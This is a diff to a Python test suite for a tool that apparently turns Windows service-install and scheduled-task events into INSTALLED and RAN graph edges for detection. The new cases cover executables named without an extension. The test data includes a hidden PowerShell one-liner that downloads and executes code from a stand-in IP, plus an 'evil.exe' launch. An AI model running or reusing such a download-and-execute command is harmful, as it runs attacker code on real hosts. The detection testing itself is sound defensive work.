@@ -136,11 +136,27 @@ def test_a_padded_service_command_is_its_run_and_keeps_its_payload(ingest) -> No
     ("cmd /c start /b C:\\Users\\Public\\evil.exe -s", "C:\\Windows\\System32\\cmd.exe"),
     ("powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a)", POWERSHELL),
     ("rundll32 C:\\Users\\Public\\x.dll,Start", "C:\\Windows\\System32\\rundll32.exe"),
-], ids=["cmd", "powershell", "rundll32"])
-def test_an_unquoted_bare_service_command_is_the_node_of_its_run(ingest, image_path: str, image: str) -> None:
+    # the Service Control Manager starts an ImagePath with CreateProcess, which runs the .exe of a file
+    # name without extension, with a folder too: Sysmon 1 names the .exe, the line as written (review R24)
+    ("C:\\ProgramData\\x\\svc -k run", "C:\\ProgramData\\x\\svc.exe"),
+    ('"C:\\Program Files\\Vendor Tool\\svc" -k run', "C:\\Program Files\\Vendor Tool\\svc.exe"),
+    ("C:\\Program Files\\Vendor.Tool\\svc -k run", "C:\\Program Files\\Vendor.Tool\\svc.exe"),
+], ids=["cmd", "powershell", "rundll32", "a folder, no extension", "quoted with spaces, no extension",
+        "unquoted with spaces, a dot in the folder"])
+def test_a_service_command_is_the_node_of_its_run(ingest, image_path: str, image: str) -> None:
     got = ingest(_service("EvilSvc", image_path), _run(image, image_path))
     [(host, installed)] = got.edges("INSTALLED")
     assert installed == _process(image, image_path) and (host, installed) in got.edges("RAN")
+
+
+def test_a_task_program_without_extension_is_the_node_of_its_exe_run(ingest) -> None:
+    actions = "<Actions><Exec><Command>C:\\ProgramData\\x\\upd</Command><Arguments>/q</Arguments></Exec></Actions>"
+    content = re.sub(r"<Actions.*</Actions>", lambda _: actions, TASK_4698["TaskContent"], flags=re.DOTALL)
+    task = _winlogbeat(4698, TASK_4698 | {"TaskName": "\\Upd", "TaskContent": content}, channel="Security")
+    upd = "C:\\ProgramData\\x\\upd.exe"
+    got = ingest(task, _run(upd, f"{upd} /q"))
+    node = _process(upd, f"{upd} /q")
+    assert got.edges("INSTALLED") == {(HOST, node)} and (HOST, node) in got.edges("RAN")
 
 
 def test_a_task_command_with_a_space_and_no_arguments_is_the_node_of_its_run(ingest) -> None:
